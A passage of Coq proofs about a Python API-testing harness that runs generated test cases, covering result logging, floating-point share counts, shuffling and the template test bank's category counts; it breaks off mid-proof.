               = Escapes e).
Proof.
  revert self i.
  induction test_cases as [| tc0 rest IH]; intros self i; cbn [run_from].
  - exists []. rewrite app_nil_r. cbn [fst snd List.length].
    repeat split; try reflexivity; try lia.
    + intros [| k] r; discriminate.
    + discriminate.
  - destruct (run_one self (world i) i tc0) as [self1 | e] eqn:E1.
    + destruct (IH self1 (S i)) as (rs & Hrs & Hac & Hto & Hlen & Hnth & Hnone & Hsome).
      unfold run_one in E1.
      pose proof (test_request_logs_one self (world i)
                    (get_or tc0 "method" (JStr "GET"))
                    (get_or tc0 "endpoint" (JStr "")) (get_or tc0 "data" JNull)
                    (get_or tc0 "expected_status" (JInt 200)) None
                    (runner_test_name i tc0) (get_or tc0 "params" JNull)
                    (get_or tc0 "expected_body" JNull)
                    (get_or tc0 "expected_schema" JNull)
                    (get_or tc0 "validate_body" (JBool false))) as Hone.
      destruct (test_request self (world i) _ _ _ _ _ _ _ _ _ _)
        as [[self1' ret] | e] eqn:Et; [| discriminate].
      injection E1 as ->.
      destruct (test_request_keeps_config _ _ _ _ _ _ _ _ _ _ _ _ _ _ Et) as [Ea Eo].
      destruct Hone as (r0 & Hr0 & Hname & Hfail).
      rewrite Hr0, <- app_assoc in Hrs.
      exists (r0 :: rs). cbn [List.length app].
      split; [exact Hrs |]. split; [congruence |]. split; [congruence |].
      split; [lia |]. split; [| split].
      * intros [| k] r Hk; cbn [nth_error] in Hk.
        -- injection Hk as <-. exists tc0. rewrite Nat.add_0_r. now repeat split.
        -- destruct (Hnth k r Hk) as (tc & Htc & Hn & Hf).
           exists tc. rewrite Nat.add_succ_r. cbn [nth_error].
           rewrite (http_call_config self self1 _ Eo) in Hf. now repeat split.
      * rewrite Hnone. split; lia.
      * intros e He. destruct (Hsome e He) as (tc & Htc & Hrun).
        exists tc. cbn [nth_error]. split; [exact Htc |].
        now rewrite Nat.add_succ_r.
    + exists []. rewrite app_nil_r. cbn [fst snd List.length].
      split; [reflexivity |]. split; [reflexivity |]. split; [reflexivity |].
      split; [lia |]. split; [intros [| k] r; discriminate |].
      split; [split; discriminate |].
      intros e' [= <-]. exists tc0. rewrite Nat.add_0_r.
      split; [reflexivity | exact E1].
Qed.

Lemma run_one_escape self w i tc e :
  run_one self w i tc = Escapes e ->
  (exists e', e = PyError e' /\ _get_headers self None = Raise e')
  \/ http_call self w = Raises e
  \/ exists response,
       http_call self w = Responded response
       /\ _validate_response_body response (get_or tc "expected_body" JNull)
            (get_or tc "expected_schema" JNull) = Escapes e.
Proof.
  unfold run_one.
  pose proof (test_request_logs_one self w
                (get_or tc "method" (JStr "GET"))
                (get_or tc "endpoint" (JStr "")) (get_or tc "data" JNull)
                (get_or tc "expected_status" (JInt 200)) None
                (runner_test_name i tc) (get_or tc "params" JNull)
                (get_or tc "expected_body" JNull)
                (get_or tc "expected_schema" JNull)
                (get_or tc "validate_body" (JBool false))) as Hone.
  destruct (test_request self w _ _ _ _ _ _ _ _ _ _) as [[self' ret] | e0];
    [discriminate |].
  intros [= <-].
  destruct Hone as [Hh | (_ & [Hw | (response & Hw & _ & _ & Hb)])].
  - now left.
  - right. now left.
  - right. right. now exists response.
Qed.

(** When no exception escapes the run. *)
Lemma run_from_completes self world i test_cases :
  (exists request_headers, _get_headers self None = Ok request_headers) ->
  0 < timeout self ->
  (forall k e, outcome (world k) <> Raises e) ->
  (forall tc instance e,
      In tc test_cases ->
      jsonschema_validate instance (get_or tc "expected_schema" JNull)
      <> SchemaRaises e) ->
  snd (run_from self world i test_cases) = None.
Proof.
  revert self i.
  induction test_cases as [| tc0 rest IH]; intros self i [hs Hh] Htime Hworld Hschema;
    cbn [run_from]; [reflexivity |].
  assert (Hcall : forall e, http_call self (world i) <> Raises e).
  { intros e. unfold http_call.
    replace (timeout self <=? 0) with false by (symmetry; apply Z.leb_gt; lia).
    pose proof (Hworld i) as Hw.
    destruct (outcome (world i)); try discriminate. apply Hw. }
  unfold run_one.
  destruct (test_request_returns self (world i)
              (get_or tc0 "method" (JStr "GET")) (get_or tc0 "endpoint" (JStr ""))
              (get_or tc0 "data" JNull) (get_or tc0 "expected_status" (JInt 200))
              None (Some (runner_test_name i tc0)) (get_or tc0 "params" JNull)
              (get_or tc0 "expected_body" JNull) (get_or tc0 "expected_schema" JNull)
              (get_or tc0 "validate_body" (JBool false)) hs Hh Hcall
              (fun instance e => Hschema tc0 instance e (or_introl eq_refl)))
    as (self1 & ret & Et).
  rewrite Et.
  destruct (test_request_keeps_config _ _ _ _ _ _ _ _ _ _ _ _ _ _ Et) as [Ea Eo].
  apply IH.
  - exists hs. now rewrite (get_headers_config self self1 None Ea).
  - now rewrite Eo.
  - exact Hworld.
  - intros tc instance e Hin. apply Hschema. now right.
Qed.

(** C8, as the code has it.  The runner logs one result for each test case
    it runs, in the order of the test cases, the [k]-th of them bearing the
    name of the [k]-th test case; a timeout or a transport error is logged
    as a FAIL and the run goes on.  The run ends early only when an
    exception escapes a request, which then logs nothing: the headers
    cannot be built, the call raises something that is no
    [RequestException], or the schema check raises something that is no
    [ValidationError].  When the headers can be built, the timeout is
    positive, every call ends in a response, a transport error or a
    timeout, and no schema check raises, every test case is run and
    logged. *)
Theorem runner_logs_every_case_in_order :
  forall (self : APITester) (world : nat -> World) (test_cases : list dict),
  exists rs,
    results (fst (run_ai_generated_tests self world test_cases)) = results self ++ rs
    /\ (List.length rs <= List.length test_cases)%nat
    /\ (forall k r, nth_error rs k = Some r ->
          exists tc, nth_error test_cases k = Some tc
                     /\ test r = runner_test_name (S k) tc
                     /\ (http_call self (world (S k)) = Timeout
                         \/ (exists msg, http_call self (world (S k)) = RequestError msg) ->
                         status r = FAIL))
    /\ (snd (run_ai_generated_tests self world test_cases) = None
        <-> List.length rs = List.length test_cases)
    /\ (forall e,
          snd (run_ai_generated_tests self world test_cases) = Some e ->
          (exists e', e = PyError e' /\ _get_headers self None = Raise e')
          \/ http_call self (world (S (List.length rs))) = Raises e
          \/ exists tc response,
               nth_error test_cases (List.length rs) = Some tc
               /\ http_call self (world (S (List.length rs))) = Responded response
               /\ _validate_response_body response (get_or tc "expected_body" JNull)
                    (get_or tc "expected_schema" JNull) = Escapes e)
    /\ ((exists request_headers, _get_headers self None = Ok request_headers) ->
        0 < timeout self ->
        (forall k e, outcome (world k) <> Raises e) ->
        (forall tc instance e,
            In tc test_cases ->
            jsonschema_validate instance (get_or tc "expected_schema" JNull)
            <> SchemaRaises e) ->
        List.length rs = List.length test_cases).
Proof.
  intros self world test_cases. unfold run_ai_generated_tests.
  destruct (run_from_logs self world 1 test_cases)
    as (rs & Hrs & Hac & Hto & Hlen & Hnth & Hnone & Hsome).
  exists rs. split; [exact Hrs |]. split; [exact Hlen |].
  split; [exact Hnth |]. split; [exact Hnone |].
  assert (Hcause : forall e,
             snd (run_from self world 1 test_cases) = Some e ->
             (exists e', e = PyError e' /\ _get_headers self None = Raise e')
             \/ http_call self (world (S (List.length rs))) = Raises e
             \/ exists tc response,
                  nth_error test_cases (List.length rs) = Some tc
                  /\ http_call self (world (S (List.length rs))) = Responded response
                  /\ _validate_response_body response (get_or tc "expected_body" JNull)
                       (get_or tc "expected_schema" JNull) = Escapes e).
  { intros e He. destruct (Hsome e He) as (tc & Htc & Hrun).
    apply run_one_escape in Hrun.
    rewrite (get_headers_config self _ None Hac) in Hrun.
    rewrite (http_call_config self _ _ Hto) in Hrun.
    cbn [Nat.add] in Hrun.
    destruct Hrun as [Hh | [Hw | (response & Hw & Hb)]].
    - now left.
    - right. now left.
    - right. right. now exists tc, response. }
  split; [exact Hcause |].
  intros Hh Htime Hworld Hschema.
  apply Hnone. now apply run_from_completes.
Qed.

End TesterFacts.

(** C8 as stated fails.  A response whose status matches, for a test case
    that asks for the body to be checked against a schema that is no valid
    schema, makes [jsonschema.validate] raise [SchemaError], which nothing
    catches: the run ends there, and of two test cases none is logged.  So
    does a key name of the API key that cannot be hashed. *)
Lemma run_stops_at_an_exception :
  run_ai_generated_tests (H := refusing_builtins) fresh_tester
    (fun _ => world_of (Responded json_200))
    [[("validate_body", JBool true); ("expected_schema", JObj [("type", JInt 5)])];
     []]
  = (fresh_tester,
     Some (LibraryError "SchemaError" "5 is not valid under any of the given schemas"))
  /\ run_ai_generated_tests (H := plain_builtins) keyed_tester
       (fun _ => world_of (Responded json_200)) [[]; []]
     = (keyed_tester, Some (PyError (TypeError "unhashable type: 'list'"))).
Proof. split; reflexivity. Qed.

Lemma pass_iff_witness :
  exists self' returned r,
    test_request (H := plain_builtins) fresh_tester (world_of (Responded html_404))
      (JStr "GET") (JStr "/items") JNull (JArr [JInt 200; JInt 404]) None
      (Some "list") JNull JNull JNull (JBool false)
    = Returns (self', returned)
    /\ results self' = results fresh_tester ++ [r] /\ status r = PASS.
Proof.
  apply (pass_iff_status_and_body (H := plain_builtins) fresh_tester
           (world_of (Responded html_404)) html_404
           (JStr "GET") (JStr "/items") JNull (JArr [JInt 200; JInt 404]) None
           (Some "list") JNull JNull JNull (JBool false)
           [(JStr "Content-Type", JStr "application/json")]
           eq_refl eq_refl eq_refl); reflexivity.
Defined.

(* ================================================================== *)
(** ** Floats: the products of the generator are finite *)

Lemma digits2_pos_size (p : positive) : digits2_pos p = Pos.size p.
Proof. induction p; simpl; congruence. Qed.

Lemma Zdigits2_le (m D : Z) : 0 <= m < 2 ^ D -> 0 <= D -> Zdigits2 m <= D.
Proof.
  intros [Hm Hlt] HD. destruct m as [| p | p]; simpl; [lia | | lia].
  rewrite digits2_pos_size.
  pose proof (Pos.size_le p) as Hle.
  apply Pos2Z.pos_le_pos in Hle. rewrite Pos2Z.inj_pow in Hle.
  assert (2 ^ Z.pos (Pos.size p) < 2 ^ (D + 1)) as Hpow.
  { replace (D + 1) with (Z.succ D) by lia. rewrite Z.pow_succ_r by lia.
    change (Z.pos p~0) with (2 * Z.pos p) in Hle. lia. }
  apply Z.pow_lt_mono_r_iff in Hpow; lia.
Qed.

Lemma iter_pos_invariant {A : Type} (f : A -> A) (P : A -> Prop) :
  (forall x, P x -> P (f x)) -> forall n x, P x -> P (iter_pos f n x).
Proof.
  intros Hf. induction n as [n IH | n IH |]; intros x Hx; simpl; auto.
Qed.

Lemma shr_1_bound (M : Z) (mrs : shr_record) :
  0 <= shr_m mrs <= M -> 0 <= shr_m (shr_1 mrs) <= M.
Proof.
  destruct mrs as [m r s]; simpl. destruct m as [| [p | p |] | p]; simpl; lia.
Qed.

Lemma shr_bound (M : Z) (mrs : shr_record) (e n : Z) :
  0 <= shr_m mrs <= M ->
  0 <= shr_m (fst (shr mrs e n)) <= M
  /\ snd (shr mrs e n) = e + Z.max 0 n.
Proof.
  intros Hm. destruct n as [| p | p]; simpl; try (split; [exact Hm | lia]).
  split; [| lia].
  apply iter_pos_invariant; [apply shr_1_bound | exact Hm].
Qed.

Lemma shr_m_of_loc m l : shr_m (shr_record_of_loc m l) = m.
Proof. destruct l as [| []]; reflexivity. Qed.

Lemma shr_fexp_bound (m e : Z) (l : location) (D : Z) :
  0 <= m < 2 ^ D -> 0 <= D ->
  0 <= shr_m (fst (shr_fexp 53 1024 m e l)) <= m
  /\ snd (shr_fexp 53 1024 m e l) <= Z.max e (-1074) + D.
Proof.
  intros Hm HD. unfold shr_fexp.
  pose proof (Zdigits2_le m D Hm HD) as Hd.
  destruct (shr_bound m (shr_record_of_loc m l) e
              (fexp 53 1024 (Zdigits2 m + e) - e)) as [Hb He].
  { rewrite shr_m_of_loc. lia. }
  split; [exact Hb |]. rewrite He. unfold fexp, emin. lia.
Qed.

Lemma round_nearest_even_bound m l :
  m <= round_nearest_even m l <= m + 1.
Proof.
  destruct l as [| []]; simpl; try lia. destruct (Z.even m); lia.
Qed.

Lemma binary_round_aux_finite (s : bool) (m e : Z) (l : location) (D : Z) :
  0 <= m < 2 ^ D -> 0 <= D -> Z.max e (-1074) + 2 * D + 1 <= 971 ->
  finite_below (D + 1) (Z.max e (-1074) + 2 * D + 1) (binary_round_aux 53 1024 s m e l).
Proof.
  intros Hm HD HE. unfold binary_round_aux.
  destruct (shr_fexp_bound m e l D Hm HD) as [Hm1 He1].
  destruct (shr_fexp 53 1024 m e l) as [mrs1 e1]; simpl in Hm1, He1.
  pose proof (round_nearest_even_bound (shr_m mrs1) (loc_of_shr_record mrs1)) as Hr.
  set (m2 := round_nearest_even (shr_m mrs1) (loc_of_shr_record mrs1)) in *.
  assert (2 ^ (D + 1) = 2 * 2 ^ D) as Hp by (replace (D + 1) with (Z.succ D) by lia; rewrite Z.pow_succ_r; lia).
  destruct (shr_fexp_bound m2 e1 loc_Exact (D + 1)) as [Hm3 He3]; [lia | lia |].
  destruct (shr_fexp 53 1024 m2 e1 loc_Exact) as [mrs3 e3]; simpl in Hm3, He3.
  destruct (shr_m mrs3) as [| p | p] eqn:E3; [exact I | | lia].
  replace (e3 <=? 1024 - 53) with true by (symmetry; apply Z.leb_le; lia).
  unfold finite_below. lia.
Qed.

Lemma iter_xO_pow (p d : positive) :
  Z.pos (Pos.iter xO p d) = Z.pos p * 2 ^ Z.pos d.
Proof.
  induction d as [| d IH] using Pos.peano_ind.
  - simpl. lia.
  - rewrite Pos.iter_succ, Pos2Z.inj_succ, Z.pow_succ_r by lia.
    change (Z.pos (Pos.iter xO p d)~0) with (2 * Z.pos (Pos.iter xO p d)). lia.
Qed.

Lemma pos_lt_pow_digits (p : positive) : Z.pos p < 2 ^ Z.pos (digits2_pos p).
Proof.
  rewrite digits2_pos_size.
  pose proof (Pos.size_gt p) as Hgt.
  apply Pos2Z.pos_lt_pos in Hgt. now rewrite Pos2Z.inj_pow in Hgt.
Qed.

Lemma pow2_le_mono (a b : Z) : 0 <= a <= b -> 2 ^ a <= 2 ^ b.
Proof. intros Hab. apply Z.pow_le_mono_r; lia. Qed.

Lemma binary_round_finite (s : bool) (p : positive) (D : Z) :
  Z.pos p < 2 ^ D -> 53 <= D <= 400 ->
  finite_below (D + 1) (2 * D + 1) (binary_round 53 1024 s p 0).
Proof.
  intros Hp HD. unfold binary_round.
  assert (exists mz ez,
             shl_align p 0 (fexp 53 1024 (Z.pos (digits2_pos p) + 0)) = (mz, ez)
             /\ Z.pos mz < 2 ^ D /\ ez <= 0) as (mz & ez & -> & Hmz & Hez).
  { unfold shl_align, fexp, emin.
    pose proof (pos_lt_pow_digits p) as Hdig.
    assert (Hd : Zdigits2 (Z.pos p) <= D) by (apply Zdigits2_le; lia).
    simpl in Hd.
    destruct (Z.max (Z.pos (digits2_pos p) + 0 - 53) (3 - 1024 - 53) - 0) as [| d | d] eqn:E.
    - exists p, 0. repeat split; lia.
    - exists p, 0. repeat split; lia.
    - eexists _, _. split; [reflexivity |]. split; [| lia].
      rewrite iter_xO_pow.
      assert (Z.pos d = 53 - Z.pos (digits2_pos p)) as -> by lia.
      assert (2 ^ Z.pos (digits2_pos p) * 2 ^ (53 - Z.pos (digits2_pos p)) = 2 ^ 53) as Hpow.
      { rewrite <- Z.pow_add_r by lia. f_equal. lia. }
      assert (0 < 2 ^ (53 - Z.pos (digits2_pos p))) by (apply Z.pow_pos_nonneg; lia).
      pose proof (pow2_le_mono 53 D ltac:(lia)). nia. }
  pose proof (binary_round_aux_finite s (Z.pos mz) ez loc_Exact D) as Hf.
  assert (Hgoal : finite_below (D + 1) (Z.max ez (-1074) + 2 * D + 1)
                    (binary_round_aux 53 1024 s (Z.pos mz) ez loc_Exact))
    by (apply Hf; lia).
  destruct (binary_round_aux 53 1024 s (Z.pos mz) ez loc_Exact); simpl in *; try easy; lia.
Qed.

Lemma SFmul_finite (x : spec_float) (s : bool) (m : positive) (e : Z) (D E : Z) :
  finite_below D E x -> Z.pos m < 2 ^ 53 -> e <= 0 ->
  0 <= D -> 0 <= E -> E + 2 * (D + 53) + 1 <= 971 ->
  finite_below (D + 53 + 1) (E + 2 * (D + 53) + 1) (SFmul 53 1024 x (S754_finite s m e)).
Proof.
  intros Hx Hm He HD HE Hb.
  destruct x as [sx | sx | | sx mx ex].
  - exact I.
  - elim Hx.
  - elim Hx.
  - destruct Hx as [Hmx Hex]. unfold SFmul.
    assert (Hprod : 0 <= Z.pos (mx * m) < 2 ^ (D + 53)).
    { rewrite Pos2Z.inj_mul. rewrite Z.pow_add_r by lia.
      assert (0 < 2 ^ D) by (apply Z.pow_pos_nonneg; lia).
      split; [lia |]. apply Z.mul_lt_mono_nonneg. all: lia. }
    assert (Hc : Z.max (ex + e) (-1074) + 2 * (D + 53) + 1 <= 971) by lia.
    pose proof (binary_round_aux_finite (xorb sx s) (Z.pos (mx * m)) (ex + e) loc_Exact
                  (D + 53) Hprod ltac:(lia) Hc) as Hf.
    destruct (binary_round_aux 53 1024 (xorb sx s) (Z.pos (mx * m)) (ex + e) loc_Exact).
    all: unfold finite_below in *.
    + exact I.
    + elim Hf.
    + elim Hf.
    + clear Hm Hprod Hmx. lia.
Qed.

Lemma float_of_Z_finite (n : Z) :
  0 <= n <= PY_SSIZE_T_MAX -> finite_below 64 127 (float_of_Z n).
Proof.
  unfold PY_SSIZE_T_MAX. intros Hn.
  unfold float_of_Z, binary_normalize.
  destruct n as [| p | p]; [exact I | | lia].
  apply (binary_round_finite false p 63); [| lia].
  change (2 ^ 63) with 9223372036854775808. lia.
Qed.

Lemma int_of_finite (D E : Z) (x : spec_float) :
  finite_below D E x -> exists k, py_int_of_float x = Ok k.
Proof.
  destruct x as [s | s | | s m e]; simpl; intros Hx; try elim Hx; eexists; reflexivity.
Qed.

Lemma share_count_ok (minimum n : Z) (m : positive) (e : Z) :
  0 <= n <= PY_SSIZE_T_MAX -> Z.pos m < 2 ^ 53 -> e <= 0 ->
  exists k, share_count minimum n (S754_finite false m e) = Ok (Z.max minimum k).
Proof.
  intros Hn Hm He.
  unfold share_count, py_mul_int_float, py_float_of_int.
  pose proof (float_of_Z_finite n Hn) as Hf.
  pose proof (SFmul_finite (float_of_Z n) false m e 64 127 Hf Hm He
                ltac:(lia) ltac:(lia) ltac:(lia)) as Hp.
  apply int_of_finite in Hp as [k Hk].
  destruct (float_of_Z n) as [s | s | | s mx ex]; try elim Hf;
    cbn [bind]; fold prec emax in Hk; rewrite Hk; cbn [bind]; now exists k.
Qed.

Lemma lit_25_100 : float_lit 25 100 = S754_finite false 4503599627370496 (-54).
Proof. vm_compute. reflexivity. Qed.

Lemma lit_20_100 : float_lit 20 100 = S754_finite false 7205759403792794 (-55).
Proof. vm_compute. reflexivity. Qed.

Lemma lit_15_100 : float_lit 15 100 = S754_finite false 5404319552844595 (-55).
Proof. vm_compute. reflexivity. Qed.

Lemma lit_8_10 : float_lit 8 10 = S754_finite false 7205759403792794 (-53).
Proof. vm_compute. reflexivity. Qed.

Lemma lit_7_10 : float_lit 7 10 = S754_finite false 6305039478318694 (-53).
Proof. vm_compute. reflexivity. Qed.

(** The counts of the five categories, whenever [num] can be a length:
    each category other than [happy_path] has at least its minimum, and
    the five counts add up to [num]. *)
Lemma fallback_counts_ok (num : Z) :
  0 <= num <= PY_SSIZE_T_MAX ->
  exists c,
    fallback_counts num = Ok c
    /\ 3 <= negative_test c /\ 5 <= security_test c
    /\ 3 <= edge_case c /\ 3 <= fuzz_test c
    /\ happy_path c + negative_test c + security_test c + edge_case c + fuzz_test c = num.
Proof.
  intros Hn. unfold fallback_counts.
  rewrite lit_25_100, lit_20_100, lit_15_100.
  destruct (share_count_ok 3 num 4503599627370496 (-54) Hn) as [h ->]; [reflexivity | lia |].
  destruct (share_count_ok 3 num 7205759403792794 (-55) Hn) as [n ->]; [reflexivity | lia |].
  destruct (share_count_ok 5 num 7205759403792794 (-55) Hn) as [s ->]; [reflexivity | lia |].
  destruct (share_count_ok 3 num 5404319552844595 (-55) Hn) as [e ->]; [reflexivity | lia |].
  cbn [bind].
  eexists. split; [reflexivity |]. cbn [happy_path negative_test security_test edge_case fuzz_test].
  repeat split; try lia.
  destruct (_ <? num) eqn:E1; [lia |].
  destruct (num <? _) eqn:E2; [lia |].
  apply Z.ltb_ge in E1, E2. lia.
Qed.

(* ================================================================== *)
(** ** The shuffle keeps the items *)

Section Shuffle.
Context {A : Type}.
Implicit Types (l x : list A) (p : A -> bool).

Lemma length_list_set i (v : A) l : List.length (list_set i v l) = List.length l.
Proof.
  revert i; induction l as [| a l IH]; intros [| i]; simpl; auto.
Qed.

Lemma nth_error_list_set i j (v a : A) l :
  nth_error l j = Some a ->
  nth_error (list_set i v l) j = Some (if Nat.eqb i j then v else a).
Proof.
  revert i j; induction l as [| b l IH]; intros [| i] [| j]; simpl; try easy.
  apply IH.
Qed.

Lemma count_list_set p i (v a : A) l :
  nth_error l i = Some a ->
  (List.length (filter p (list_set i v l)) + b2n (p a)
   = List.length (filter p l) + b2n (p v))%nat.
Proof.
  revert i; induction l as [| b l IH]; intros [| i]; simpl; try easy.
  - intros [= ->]. unfold b2n. destruct (p a), (p v); simpl; lia.
  - intros Hi. specialize (IH i Hi). destruct (p b); simpl; lia.
Qed.

Lemma swap_length x i j : List.length (swap x i j) = List.length x.
Proof.
  unfold swap. destruct (nth_error x i), (nth_error x j); auto.
  now rewrite !length_list_set.
Qed.

Lemma swap_count p x i j :
  List.length (filter p (swap x i j)) = List.length (filter p x).
Proof.
  unfold swap.
  destruct (nth_error x i) as [xi |] eqn:Ei; [| reflexivity].
  destruct (nth_error x j) as [xj |] eqn:Ej; [| reflexivity].
  pose proof (count_list_set p i xj xi x Ei) as H1.
  pose proof (nth_error_list_set i j xj xj x Ej) as Hj.
  replace (if Nat.eqb i j then xj else xj) with xj in Hj by (now destruct (Nat.eqb i j)).
  pose proof (count_list_set p j xi xj _ Hj) as H2.
  lia.
Qed.

Lemma shuffle_down_keeps p i x g :
  List.length (fst (shuffle_down i x g)) = List.length x
  /\ List.length (filter p (fst (shuffle_down i x g))) = List.length (filter p x).
Proof.
  revert x g; induction i as [| i IH]; intros x g; simpl; [easy |].
  destruct (randbelow (S (S i)) g) as [j g'].
  destruct (IH (swap x (S i) j) g') as [Hl Hc].
  now rewrite Hl, Hc, swap_length, swap_count.
Qed.

Lemma shuffle_length x g : List.length (fst (shuffle x g)) = List.length x.
Proof. apply (shuffle_down_keeps (fun _ => true)). Qed.

Lemma shuffle_count p x g :
  List.length (filter p (fst (shuffle x g))) = List.length (filter p x).
Proof. apply shuffle_down_keeps. Qed.

End Shuffle.

(* ================================================================== *)
(** ** The template test bank *)

Lemma dict_get_set_same {A : Type} (k : string) (v : A) (d : list (string * A)) :
  dict_get k (dict_set k v d) = Some v.
Proof.
  induction d as [| [k' v'] d IH]; simpl.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb_spec k k') as [-> | Hn]; simpl.
    + now rewrite String.eqb_refl.
    + destruct (String.eqb_spec k k'); [congruence | exact IH].
Qed.

Lemma dict_get_set_other {A : Type} (k k' : string) (v : A) (d : list (string * A)) :
  k <> k' -> dict_get k (dict_set k' v d) = dict_get k d.
Proof.
  intros Hk. induction d as [| [k0 v0] d IH]; simpl.
  - destruct (String.eqb_spec k k'); [congruence | reflexivity].
  - destruct (String.eqb_spec k' k0) as [-> | Hn]; simpl.
    + destruct (String.eqb_spec k k0); [congruence | reflexivity].
    + destruct (String.eqb_spec k k0); [reflexivity | exact IH].
Qed.

Lemma dict_get_setdefault_other {A : Type} (k k' : string) (v : A) (d : list (string * A)) :
  k <> k' -> dict_get k (dict_setdefault k' v d) = dict_get k d.
Proof.
  intros Hk. unfold dict_setdefault.
  destruct (dict_has k' d); [reflexivity | now apply dict_get_set_other].
Qed.

Lemma has_category_categorize (c category : string) (test : dict) :
  has_category c (categorize category test) = String.eqb category c.
Proof.
  unfold has_category, categorize.
  rewrite dict_get_set_other by discriminate.
  rewrite !dict_get_setdefault_other by discriminate.
  now rewrite dict_get_set_same.
Qed.

Lemma has_category_variant (c : string) (k : nat) (test : dict) :
  has_category c (variant k test) = has_category c test.
Proof.
  unfold variant, has_category.
  destruct (dict_get "description" test) as [[ | | | | d | | ] |]; try reflexivity.
  now rewrite dict_get_set_other by discriminate.
Qed.

Lemma category_count_app (c : string) (xs ys : list dict) :
  category_count c (xs ++ ys) = (category_count c xs + category_count c ys)%nat.
Proof.
  unfold category_count. now rewrite filter_app, length_app.
Qed.

Lemma category_count_map {X : Type} (c : string) (b : bool) (f : X -> dict) (l : list X) :
  (forall x, has_category c (f x) = b) ->
  category_count c (map f l) = if b then List.length l else 0%nat.
Proof.
  intros Hf. unfold category_count.
  induction l as [| x l IH]; simpl; [now destruct b |].
  rewrite Hf. destruct b; simpl; now rewrite IH.
Qed.

Lemma length_range (n : Z) : List.length (range n) = Z.to_nat n.
Proof. unfold range. apply length_seq. Qed.

Lemma cycled_tests_length (category : string) (templates : list dict) (count : Z) :
  List.length (cycled_tests category templates count) = Z.to_nat count.
Proof.
  unfold cycled_tests. now rewrite length_map, length_range.
Qed.

Lemma cycled_tests_count (c category : string) (templates : list dict) (count : Z) :
  category_count c (cycled_tests category templates count)
  = if String.eqb category c then Z.to_nat count else 0%nat.
Proof.
  unfold cycled_tests.
  rewrite (category_count_map c (String.eqb category c)), length_range; [reflexivity |].
  intros i. destruct (_ <=? i)%nat;
    now rewrite ?has_category_variant, has_category_categorize.
Qed.

Lemma security_tests_length (templates : list dict) (count : Z) :
  0 <= count -> List.length (security_tests templates count) = Z.to_nat count.
Proof.
  intros Hc. unfold security_tests.
  rewrite length_app, length_map, length_range.
  destruct (len templates <? count) eqn:E.
  - apply Z.ltb_lt in E. rewrite length_map, length_range. unfold len in *. lia.
  - apply Z.ltb_ge in E. simpl. unfold len in *. lia.
Qed.

Lemma security_tests_count (c : string) (templates : list dict) (count : Z) :
  0 <= count ->
  category_count c (security_tests templates count)
  = if String.eqb "security_test" c then Z.to_nat count else 0%nat.
Proof.
  intros Hc. unfold security_tests.
  rewrite category_count_app.
  rewrite (category_count_map c (String.eqb "security_test" c)), length_range
    by (intros i; apply has_category_categorize).
  destruct (len templates <? count) eqn:E.
  - apply Z.ltb_lt in E.
    rewrite (category_count_map c (String.eqb "security_test" c)), length_range.
    + destruct (String.eqb "security_test" c); unfold len in *; lia.
    + intros i. unfold has_category.
      rewrite dict_get_set_other by discriminate.
      rewrite !dict_get_setdefault_other by discriminate.
      fold (has_category c (variant (i + 1)
              (dict_set "category" (JStr "security_test")
                 (nth (Nat.modulo i (List.length templates)) templates [])))).
      rewrite has_category_variant. unfold has_category.
      now rewrite dict_get_set_same.
  - apply Z.ltb_ge in E.
    destruct (String.eqb "security_test" c); unfold category_count, len in *; simpl; lia.
Qed.

Lemma length_slice_to {X : Type} (l : list X) (n : Z) :
  0 <= n -> (Z.to_nat n <= List.length l)%nat ->
  List.length (slice_to l n) = Z.to_nat n.
Proof.
  intros Hn Hl. unfold slice_to.
  destruct (0 <=? n) eqn:E; [| apply Z.leb_gt in E; lia].
  rewrite length_firstn. lia.
Qed.

Lemma slice_to_all {X : Type} (l : list X) (n : Z) :
  Z.to_nat n = List.length l -> 0 <= n -> slice_to l n = l.
Proof.
  intros Hl Hn. unfold slice_to.
  destruct (0 <=? n) eqn:E; [| apply Z.leb_gt in E; lia].
  apply firstn_all2. lia.
Qed.

Lemma count_for_sum (c : Counts) (category : string) :
  ((if String.eqb "security_test" category then Z.to_nat (security_test c) else 0)
   + ((if String.eqb "happy_path" category then Z.to_nat (happy_path c) else 0)
      + ((if String.eqb "negative_test" category then Z.to_nat (negative_test c) else 0)
         + ((if String.eqb "edge_case" category then Z.to_nat (edge_case c) else 0)
            + (if String.eqb "fuzz_test" category then Z.to_nat (fuzz_test c) else 0)))))%nat
  = Z.to_nat (count_for c category).
Proof.
  unfold count_for.
  rewrite !(String.eqb_sym _ category).
  destruct (String.eqb_spec category "security_test") as [-> | _]; [simpl; lia |].
  destruct (String.eqb_spec category "happy_path") as [-> | _]; [simpl; lia |].
  destruct (String.eqb_spec category "negative_test") as [-> | _]; [simpl; lia |].
  destruct (String.eqb_spec category "edge_case") as [-> | _]; [simpl; lia |].
  destruct (String.eqb_spec category "fuzz_test") as [-> | _]; simpl; lia.
Qed.

(** What the template test bank returns for a count that can be a length:
    exactly [num] tests; and when the [happy_path] count has not gone
    negative, each category has the count the distribution gives it,
    whatever the random source. *)
Lemma fallback_tests_ok (api_url : string) (sample_data : dict) (num : Z)
      (has_auth : bool) (g : rng) :
  0 <= num <= PY_SSIZE_T_MAX ->
  exists c tests g',
    fallback_counts num = Ok c
    /\ _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g')
    /\ List.length tests = Z.to_nat num
    /\ (0 <= happy_path c ->
        forall category,
          category_count category tests = Z.to_nat (count_for c category)).
Proof.
  intros Hn.
  destruct (fallback_counts_ok num Hn) as (c & Ec & Hneg & Hsec & Hedge & Hfuzz & Hsum).
  unfold _generate_fallback_tests. rewrite Ec. cbn [bind].
  destruct (shuffle (security_templates has_auth) g) as [shuffled g1].
  set (all_tests := security_tests shuffled (security_test c) ++ _).
  pose proof (shuffle_length all_tests g1) as Hlen.
  assert (Hcount : forall category,
             category_count category (fst (shuffle all_tests g1))
             = category_count category all_tests)
    by (intros category; apply shuffle_count).
  destruct (shuffle all_tests g1) as [mixed g2]. cbn [fst] in Hlen, Hcount.
  assert (Hall : List.length all_tests
                 = (Z.to_nat (security_test c) + (Z.to_nat (happy_path c)
                    + (Z.to_nat (negative_test c) + (Z.to_nat (edge_case c)
                       + Z.to_nat (fuzz_test c)))))%nat).
  { unfold all_tests.
    rewrite !length_app, !cycled_tests_length, security_tests_length by lia.
    reflexivity. }
  exists c, (slice_to mixed num), g2.
  split; [reflexivity |]. split; [reflexivity |]. split.
  - apply length_slice_to; lia.
  - intros Hh category.
    rewrite slice_to_all by lia.
    rewrite Hcount. unfold all_tests.
